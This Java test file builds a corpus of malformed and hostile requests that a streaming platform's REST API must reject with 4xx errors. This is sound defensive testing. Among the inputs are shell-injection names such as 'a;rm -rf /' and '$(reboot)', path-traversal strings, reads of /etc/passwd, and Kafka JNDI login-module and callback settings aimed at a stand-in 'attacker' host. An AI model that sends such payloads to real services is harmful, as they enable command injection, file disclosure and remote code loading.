package org.hyperiot.streaming.itests;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Requests that must be refused with a 4xx problem and change nothing: malformed and truncated JSON,
 * wrong types, unknown fields, duplicate members, nesting and literals past the input limits, huge
 * numbers, an oversized body, a definition too large to store, path tricks, control and shell
 * characters, overlong names, every dangerous Kafka property of SPEC §7, topic configuration values
 * out of range, topics Kafka or the platform owns, unknown processors and duplicates, across every
 * mutating route. The Storm control routes are refused for their input before Storm is needed, so
 * their cases hold on a node where no Nimbus answers (a valid request there would be a 503).
 */
final class BadInputCorpus {

    private static final String JSON = "application/json";

    private BadInputCorpus() {
    }

    /**
     * @param existing a stream that exists, reading {@code input} and writing {@code output}, topics that exist
     */
    static List<BadRequest> cases(String existing, String input, String output) {
        List<BadRequest> cases = new ArrayList<>();
        String valid = "{\"name\":\"corpus-new\",\"source\":{\"topics\":[\"" + input + "\"]},\"sink\":{\"topic\":\"" + output + "\"}}";

        // POST /streams: JSON that is not JSON, or not an object.
        stream(cases, "empty body", "", 400);
        stream(cases, "truncated object", "{\"name\":\"corpus-a\",\"source\":{\"topics\":[\"" + input + "\"]", 400);
        stream(cases, "truncated after a comma", "{\"name\":\"corpus-a\",", 400);
        stream(cases, "lone brace", "{", 400);
        stream(cases, "array instead of object", "[]", 0);
        stream(cases, "string instead of object", "\"stream\"", 0);
        stream(cases, "null document", "null", 0);
        stream(cases, "number document", "42", 0);
        stream(cases, "form encoding", "name=corpus-a&source=x", 400);
        stream(cases, "trailing garbage", valid + " {\"again\":1}", 400);
        stream(cases, "duplicate keys", valid.replace("{\"name\":\"corpus-new\",", "{\"name\":\"corpus-a\",\"name\":\"corpus-b\","), 400);
        stream(cases, "single quotes", valid.replace('"', '\''), 400);
        stream(cases, "comment in JSON", "/* hi */" + valid, 400);
        stream(cases, "deeply nested arrays", "[".repeat(100_000) + "]".repeat(100_000), 0);
        stream(cases, "deeply nested objects in a field", valid.replace("\"sink\"", "\"x\":" + "{\"a\":".repeat(5_000)
                + "1" + "}".repeat(5_000) + ",\"sink\""), 0);
        // Issue 16: these gave 500 (a stack overflow) and 4 s of CPU; now refused before any tree is built.
        String deepSet = pipeline(valid, "[{\"op\":\"set\",\"field\":\"f\",\"value\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}]");
        stream(cases, "5,000 nested arrays in a set value", deepSet, 400);
        cases.add(json("5,000 nested arrays in a set value, validated", "POST", "/streams/validate", deepSet, 400));
        String hugeInteger = valid.replace("{\"name\"", "{\"parallelism\":" + "7".repeat(1_000_000) + ",\"name\"");
        stream(cases, "a 1 MB integer literal", hugeInteger, 400);
        cases.add(json("a 1 MB integer literal, validated", "POST", "/streams/validate", hugeInteger, 400));
        // Issue 16: a valid definition under the 1 MiB body limit whose stored form would not fit the definitions topic.
        StringBuilder sets = new StringBuilder("[");
        for (int i = 0; i < 5; i++) {
            sets.append(i == 0 ? "" : ",").append("{\"op\":\"set\",\"field\":\"f").append(i).append("\",\"value\":\"")
                    .append("v".repeat(205_000)).append("\"}");
        }
        stream(cases, "a definition too large to store", pipeline(valid, sets.append("]").toString()), 413);
        streamBytes(cases, "invalid UTF-8", new byte[] {'{', '"', 'n', 'a', 'm', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, 0);
        // Wrong types, unknown fields, numbers out of range.
        stream(cases, "unknown top-level field", valid.replace("}}", "},\"bogus\":true}"), 422);
        stream(cases, "unknown source field", valid.replace("\"topics\"", "\"bogus\":1,\"topics\""), 422);
        stream(cases, "name is a number", valid.replace("\"corpus-new\"", "17"), 422);
        stream(cases, "topics is a string", valid.replace("[\"" + input + "\"]", "\"" + input + "\""), 422);
        stream(cases, "parallelism is text", valid.replace("{\"name\"", "{\"parallelism\":\"two\",\"name\""), 422);
        stream(cases, "parallelism beyond long", valid.replace("{\"name\"", "{\"parallelism\":99999999999999999999999,\"name\""), 422);
        stream(cases, "parallelism 1e400", valid.replace("{\"name\"", "{\"parallelism\":1e400,\"name\""), 422);
        stream(cases, "negative parallelism", valid.replace("{\"name\"", "{\"parallelism\":-1,\"name\""), 422);
        stream(cases, "commit interval of 10^30 ms", valid.replace("{\"name\"", "{\"commitInterval\":\"1000000000000000000000000000000ms\",\"name\""), 422);
        stream(cases, "unknown guarantee", valid.replace("{\"name\"", "{\"guarantee\":\"twice\",\"name\""), 422);
        stream(cases, "unknown mode", valid.replace("{\"name\"", "{\"mode\":\"turbo\",\"name\""), 422);
        stream(cases, "unknown engine", valid.replace("{\"name\"", "{\"engine\":\"spark\",\"name\""), 422);
        stream(cases, "missing sink", "{\"name\":\"corpus-a\",\"source\":{\"topics\":[\"" + input + "\"]}}", 422);
        stream(cases, "empty source topics", valid.replace("[\"" + input + "\"]", "[]"), 422);
        stream(cases, "window of zero seconds", pipeline(valid, "[{\"op\":\"keyBy\",\"field\":\"d\"},{\"op\":\"window\",\"type\":\"tumbling\",\"size\":\"0s\",\"aggregate\":[{\"fn\":\"count\",\"as\":\"n\"}]}]"), 422);
        stream(cases, "window of ten parsecs", pipeline(valid, "[{\"op\":\"window\",\"type\":\"tumbling\",\"size\":\"10 parsecs\",\"aggregate\":[{\"fn\":\"count\",\"as\":\"n\"}]}]"), 422);
        stream(cases, "unknown operator", pipeline(valid, "[{\"op\":\"exec\",\"command\":\"rm -rf /\"}]"), 422);
        stream(cases, "unknown processor", pipeline(valid, "[{\"op\":\"processor\",\"name\":\"no-such-processor\"}]"), 422);
        stream(cases, "unknown aggregator", pipeline(valid, "[{\"op\":\"window\",\"type\":\"tumbling\",\"size\":\"1s\",\"aggregate\":[{\"fn\":\"custom\",\"name\":\"no-such-aggregator\",\"as\":\"x\"}]}]"), 422);
        // Names: path tricks, control and shell characters, length.
        for (String name : List.of("../etc", "..%2f..%2fetc", "%2e%2e%2f", "corpus\\u0000nul", "a;rm -rf /", "$(reboot)",
                "`id`", "a|b", "UPPER", " leading-space", "x".repeat(10_000), "")) {
            stream(cases, "stream name '" + abbreviate(name) + "'", valid.replace("corpus-new", name), 422);
        }
        stream(cases, "duplicate stream name", valid.replace("corpus-new", existing), 409);
        // Dangerous Kafka properties have no place in a definition: unknown fields, refused.
        stream(cases, "JNDI login module in the source", valid.replace("\"topics\"", "\"kafka\":{\"sasl.jaas.config\":"
                + "\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"ldap://attacker/x\\\";\"},\"topics\""), 422);
        // Size and media type.
        streamBytes(cases, "2 MiB body", (valid.substring(0, valid.length() - 1) + ",\"description\":\""
                + "x".repeat(2 * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8), 413);
        cases.add(new BadRequest("text/plain body", "POST", "/streams", valid.getBytes(StandardCharsets.UTF_8), "text/plain", 415));
        cases.add(new BadRequest("XML body", "POST", "/streams", "<stream name=\"x\"/>".getBytes(StandardCharsets.UTF_8),
                "application/xml", 415));

        // PUT, DELETE and controls of /streams/{name}.
        cases.add(json("replace an unknown stream", "PUT", "/streams/corpus-nobody", valid.replace("corpus-new", "corpus-nobody"), 404));
        cases.add(json("replace with another name", "PUT", "/streams/" + existing, valid, 422));
        cases.add(json("replace with malformed JSON", "PUT", "/streams/" + existing, "{\"name\":", 400));
        cases.add(json("replace with ../ in the path", "PUT", "/streams/..%2F" + existing, valid.replace("corpus-new", existing), 0));
        cases.add(new BadRequest("delete an unknown stream", "DELETE", "/streams/corpus-nobody", null, null, 404));
        cases.add(new BadRequest("delete with encoded ../", "DELETE", "/streams/%2e%2e%2f%2e%2e%2fetc", null, null, 0));
        cases.add(new BadRequest("delete with NUL", "DELETE", "/streams/corpus%00x", null, null, 400, true));
        cases.add(new BadRequest("purgeState=maybe", "DELETE", "/streams/" + existing + "?purgeState=maybe", null, null, 400));
        cases.add(new BadRequest("start an unknown stream", "POST", "/streams/corpus-nobody/start", new byte[0], JSON, 404));
        cases.add(new BadRequest("stop with shell characters", "POST", "/streams/a%3Breboot/stop", new byte[0], JSON, 404));
        cases.add(new BadRequest("restart a 10,000-character name", "POST", "/streams/" + "y".repeat(10_000) + "/restart",
                new byte[0], JSON, 414, true));
        cases.add(new BadRequest("stop a 200-character name", "POST", "/streams/" + "y".repeat(200) + "/stop",
                new byte[0], JSON, 404));

        // POST /kafka/topics.
        String topic = "{\"name\":\"corpus-topic\",\"partitions\":1}";
        topic(cases, "malformed topic", "{\"name\":", 400);
        topic(cases, "topic with unknown field", topic.replace("}", ",\"bogus\":1}"), 0);
        topic(cases, "topic name ../x", topic.replace("corpus-topic", "../x"), 422);
        topic(cases, "topic name with a space", topic.replace("corpus-topic", "a b"), 422);
        topic(cases, "topic name of 10,000 characters", topic.replace("corpus-topic", "t".repeat(10_000)), 422);
        topic(cases, "topic name with NUL", topic.replace("corpus-topic", "a\\u0000b"), 422);
        topic(cases, "zero partitions", topic.replace("1}", "0}"), 422);
        topic(cases, "negative partitions", topic.replace("1}", "-3}"), 422);
        topic(cases, "partitions beyond int", topic.replace("1}", "2147483648}"), 0);
        topic(cases, "partitions as text", topic.replace("1}", "\"three\"}"), 0);
        topic(cases, "replication beyond the brokers", topic.replace("}", ",\"replicationFactor\":100}"), 0);
        topic(cases, "existing topic", topic.replace("corpus-topic", input), 409);
        // Issue 15: topics Kafka or the platform owns, and duplicate members that smuggle one in.
        for (String owned : List.of("__consumer_offsets", "__transaction_state", "hyperiot-streaming-definitions",
                "hyperiot-streaming-status", "hyperiot_layer_microservices", "hyperiot-stream-" + existing + "-changelog",
                "hyperiot-saga-log")) {
            topic(cases, "create owned topic " + owned, topic.replace("corpus-topic", owned), 403);
            cases.add(new BadRequest("delete owned topic " + owned, "DELETE", "/kafka/topics/" + owned, null, null, 403));
        }
        topic(cases, "duplicate topic name", "{\"name\":\"corpus-topic\",\"name\":\"__consumer_offsets\"}", 400);
        topic(cases, "duplicate config key", "{\"name\":\"corpus-topic\",\"configs\":{\"retention.ms\":\"86400000\","
                + "\"retention.ms\":\"1\"}}", 400);
        for (String config : List.of("\"segment.index.bytes\":\"4\"", "\"flush.messages\":\"1\"", "\"segment.ms\":\"1\"",
                "\"max.message.bytes\":\"2147483647\"", "\"unclean.leader.election.enable\":\"true\"",
                "\"retention.ms\":\"1e9\"", "\"min.cleanable.dirty.ratio\":\"0\"", "\"cleanup.policy\":\"none\"")) {
            topic(cases, "topic config value " + config, topic.replace("}", ",\"configs\":{" + config + "}}"), 422);
        }
        for (String config : List.of(
                "\"sasl.jaas.config\":\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"ldap://attacker/x\\\";\"",
                "\"config.providers\":\"file\"",
                "\"config.providers.file.class\":\"org.apache.kafka.common.config.provider.FileConfigProvider\"",
                "\"retention.ms\":\"${file:/etc/passwd:x}\"",
                "\"retention.ms\":\"${env:HOME}\"",
                "\"ssl.truststore.location\":\"/etc/passwd\"",
                "\"sasl.oauthbearer.jwks.endpoint.url\":\"http://attacker/jwks\"",
                "\"sasl.login.callback.handler.class\":\"com.attacker.Handler\"",
                "\"unknown.setting\":\"1\"",
                "\"cleanup.policy\":\"compact\\u0000\"",
                "\"retention.ms\":\"" + "9".repeat(2_000) + "\"")) {
            topic(cases, "topic config " + abbreviate(config), topic.replace("}", ",\"configs\":{" + config + "}}"), 422);
        }
        cases.add(new BadRequest("delete an unknown topic", "DELETE", "/kafka/topics/corpus-no-such-topic", null, null, 404));
        cases.add(new BadRequest("delete a topic with encoded ../", "DELETE", "/kafka/topics/%2e%2e%2f" + input, null, null, 0));

        // /kafka/acls.
        String acl = "{\"resourceType\":\"TOPIC\",\"resourceName\":\"corpus\",\"principal\":\"User:corpus\",\"operation\":\"READ\"}";
        acl(cases, "malformed ACL", "{\"resourceType\":", 400);
        acl(cases, "unknown operation", acl.replace("READ", "FLY"), 0);
        acl(cases, "unknown resource type", acl.replace("TOPIC", "UNIVERSE"), 0);
        acl(cases, "principal without a type", acl.replace("User:corpus", "corpus"), 0);
        acl(cases, "missing principal", acl.replace(",\"principal\":\"User:corpus\"", ""), 0);
        acl(cases, "ACL with unknown field", acl.replace("}", ",\"bogus\":1}"), 0);
        acl(cases, "ACL with a duplicate member", acl.replace("{", "{\"principal\":\"User:*\","), 400);
        acl(cases, "ACL nested past the limit", acl.replace("}", ",\"x\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"), 400);
        cases.add(new BadRequest("delete every ACL (no filter)", "DELETE", "/kafka/acls", null, null, 422));

        // POST /topologies/{id}/rebalance and /kill (issue 18): bodies, then ids.
        String topology = "/topologies/corpus-topology";
        rebalance(cases, "malformed rebalance", "{\"workers\":", 400);
        rebalance(cases, "rebalance with an unknown field", "{\"workers\":2,\"bogus\":1}", 400);
        rebalance(cases, "rebalance with a duplicate member", "{\"workers\":2,\"workers\":3}", 400);
        rebalance(cases, "workers as text", "{\"workers\":\"two\"}", 400);
        rebalance(cases, "workers beyond int", "{\"workers\":2147483648}", 400);
        rebalance(cases, "executors as an array", "{\"executors\":[4]}", 400);
        rebalance(cases, "executors as text", "{\"executors\":{\"engine\":\"four\"}}", 400);
        rebalance(cases, "rebalance body an array", "[]", 400);
        rebalance(cases, "rebalance body null", "null", 400);
        rebalance(cases, "rebalance body a number", "42", 400);
        rebalance(cases, "rebalance nested past the limit", "{\"executors\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}", 400);
        rebalance(cases, "zero workers", "{\"workers\":0}", 422);
        rebalance(cases, "1001 workers", "{\"workers\":1001}", 422);
        rebalance(cases, "negative rebalance wait", "{\"waitSeconds\":-1}", 422);
        rebalance(cases, "rebalance wait over an hour", "{\"waitSeconds\":3601}", 422);
        rebalance(cases, "zero executors", "{\"executors\":{\"engine\":0}}", 422);
        rebalance(cases, "null executors", "{\"executors\":{\"engine\":null}}", 422);
        rebalance(cases, "executors of a system component", "{\"executors\":{\"__acker\":2}}", 422);
        rebalance(cases, "executors of an unnamed component", "{\"executors\":{\"\":2}}", 422);
        rebalance(cases, "executors of a 500-character component", "{\"executors\":{\"" + "c".repeat(500) + "\":2}}", 422);
        rebalance(cases, "executors of a 10,000-character component", "{\"executors\":{\"" + "c".repeat(10_000) + "\":2}}", 400);
        rebalance(cases, "executors of a component with NUL", "{\"executors\":{\"a\\u0000b\":2}}", 422);
        cases.add(new BadRequest("rebalance as text/plain", "POST", topology + "/rebalance",
                "{\"workers\":2}".getBytes(StandardCharsets.UTF_8), "text/plain", 415));
        cases.add(new BadRequest("2 MiB rebalance body", "POST", topology + "/rebalance",
                ("{\"workers\":2" + " ".repeat(2 * 1024 * 1024) + "}").getBytes(StandardCharsets.UTF_8), JSON, 413));
        kill(cases, "malformed kill", "{\"waitSeconds\"", 400);
        kill(cases, "kill with an unknown field", "{\"wait\":10}", 400);
        kill(cases, "kill wait as text", "{\"waitSeconds\":\"ten\"}", 400);
        kill(cases, "kill body null", "null", 400);
        kill(cases, "kill wait of 0 s", "{\"waitSeconds\":0}", 422);
        kill(cases, "kill wait of 4 s", "{\"waitSeconds\":4}", 422);
        kill(cases, "negative kill wait", "{\"waitSeconds\":-5}", 422);
        kill(cases, "kill wait over an hour", "{\"waitSeconds\":3601}", 422);
        kill(cases, "kill wait of 2^31-1 s", "{\"waitSeconds\":2147483647}", 422);
        cases.add(new BadRequest("kill as XML", "POST", topology + "/kill",
                "<kill wait=\"10\"/>".getBytes(StandardCharsets.UTF_8), "application/xml", 415));
        for (String id : List.of("a%3Breboot", "a.b", "%24(reboot)", "-dash", "%C3%A9", "y".repeat(201))) {
            cases.add(new BadRequest("topology id '" + abbreviate(id) + "'", "GET", "/topologies/" + id, null, null, 404));
            cases.add(new BadRequest("kill topology '" + abbreviate(id) + "'", "POST", "/topologies/" + id + "/kill",
                    new byte[0], JSON, 404));
            cases.add(new BadRequest("activate topology '" + abbreviate(id) + "'", "POST",
                    "/topologies/" + id + "/activate", new byte[0], JSON, 404));
        }
        cases.add(new BadRequest("topology id with encoded ../", "GET", "/topologies/%2e%2e%2f%2e%2e%2fetc", null, null, 0));
        cases.add(new BadRequest("kill a topology id with NUL", "POST", "/topologies/t%00x/kill", new byte[0], JSON, 400, true));
        cases.add(new BadRequest("delete a topology (no such route)", "DELETE", topology, null, null, 405));

        // Saga definitions and sagas (issue 20): bodies, then names, ids and query parameters.
        String sagaDefinition = "{\"name\":\"corpus-saga\",\"steps\":[{\"name\":\"s\",\"participant\":\"p\",\"action\":\"a\"}]}";
        sagaDefinition(cases, "malformed saga definition", "{\"name\":", 400);
        sagaDefinition(cases, "saga definition body an array", "[]", 0);
        sagaDefinition(cases, "saga definition with an unknown member", sagaDefinition.replace("}]}", "}],\"bogus\":1}"), 0);
        sagaDefinition(cases, "saga definition without steps", "{\"name\":\"corpus-saga\",\"steps\":[]}", 422);
        sagaDefinition(cases, "saga definition named in capitals", sagaDefinition.replace("corpus-saga", "Corpus"), 422);
        sagaDefinition(cases, "participant named ../x", sagaDefinition.replace("\"p\"", "\"../x\""), 422);
        sagaDefinition(cases, "saga timeout 'forever'", sagaDefinition.replace("\"steps\"", "\"timeout\":\"forever\",\"steps\""), 422);
        sagaDefinition(cases, "zero attempts", sagaDefinition.replace("\"a\"}", "\"a\",\"retry\":{\"maxAttempts\":0}}"), 422);
        sagaDefinition(cases, "saga definition with a duplicate member", sagaDefinition.replace("{\"name\"", "{\"name\":\"x\",\"name\""), 0);
        sagaDefinition(cases, "saga definition nested past the limit",
                sagaDefinition.replace("}]}", "}],\"x\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}"), 0);
        cases.add(new BadRequest("2 MiB saga definition", "POST", "/saga-definitions",
                (sagaDefinition.substring(0, sagaDefinition.length() - 1) + " ".repeat(2 * 1024 * 1024) + "}")
                        .getBytes(StandardCharsets.UTF_8), JSON, 413));
        cases.add(new BadRequest("saga definition as text/plain", "POST", "/saga-definitions",
                sagaDefinition.getBytes(StandardCharsets.UTF_8), "text/plain", 415));
        cases.add(json("replace a saga definition under another name", "PUT", "/saga-definitions/corpus-other",
                sagaDefinition, 0));
        cases.add(new BadRequest("delete an unknown saga definition", "DELETE", "/saga-definitions/corpus-nope", null, null, 404));
        saga(cases, "malformed start", "{\"definition\":", 400);
        saga(cases, "start with an unknown member", "{\"definition\":\"corpus-nope\",\"bogus\":1}", 400);
        saga(cases, "start with an array as input", "{\"definition\":\"corpus-nope\",\"input\":[1]}", 400);
        saga(cases, "start without a definition", "{}", 0);
        saga(cases, "start of an unknown definition", "{\"definition\":\"corpus-nope\"}", 404);
        saga(cases, "start body null", "null", 400);
        for (String query : List.of("state=DANCING", "limit=0", "limit=501", "limit=ten", "pageToken=garbage",
                "definition=..%2Fx")) {
            cases.add(new BadRequest("list sagas with " + query, "GET", "/sagas?" + query, null, null, 400));
        }
        for (String id : List.of("a%3Breboot", "%24(reboot)", "%C3%A9", "y".repeat(201))) {
            cases.add(new BadRequest("saga id '" + abbreviate(id) + "'", "GET", "/sagas/" + id, null, null, 400));
            cases.add(new BadRequest("retry saga '" + abbreviate(id) + "'", "POST", "/sagas/" + id + "/retry",
                    new byte[0], JSON, 400));
        }
        cases.add(new BadRequest("retry an unknown saga", "POST", "/sagas/00000000-0000-0000-0000-00000000c0de/retry",
                new byte[0], JSON, 404));
        cases.add(new BadRequest("saga definition name '../x'", "GET", "/saga-definitions/..%2Fx", null, null, 0));
        return cases;
    }

    private static void rebalance(List<BadRequest> cases, String label, String body, int status) {
        cases.add(json(label, "POST", "/topologies/corpus-topology/rebalance", body, status));
    }

    private static void sagaDefinition(List<BadRequest> cases, String label, String body, int status) {
        cases.add(json(label, "POST", "/saga-definitions", body, status));
    }

    private static void saga(List<BadRequest> cases, String label, String body, int status) {
        cases.add(json(label, "POST", "/sagas", body, status));
    }

    private static void kill(List<BadRequest> cases, String label, String body, int status) {
        cases.add(json(label, "POST", "/topologies/corpus-topology/kill", body, status));
    }

    private static String pipeline(String definition, String pipeline) {
        return definition.replace(",\"sink\"", ",\"pipeline\":" + pipeline + ",\"sink\"");
    }

    private static void stream(List<BadRequest> cases, String label, String body, int status) {
        streamBytes(cases, label, body.getBytes(StandardCharsets.UTF_8), status);
    }

    private static void streamBytes(List<BadRequest> cases, String label, byte[] body, int status) {
        cases.add(new BadRequest(label, "POST", "/streams", body, JSON, status));
    }

    private static void topic(List<BadRequest> cases, String label, String body, int status) {
        cases.add(json(label, "POST", "/kafka/topics", body, status));
    }

    private static void acl(List<BadRequest> cases, String label, String body, int status) {
        cases.add(json(label, "POST", "/kafka/acls", body, status));
    }

    private static BadRequest json(String label, String method, String path, String body, int status) {
        return new BadRequest(label, method, path, body.getBytes(StandardCharsets.UTF_8), JSON, status);
    }

    private static String abbreviate(String text) {
        return text.length() <= 40 ? text : text.substring(0, 40) + "… (" + text.length() + " chars)";
    }
}
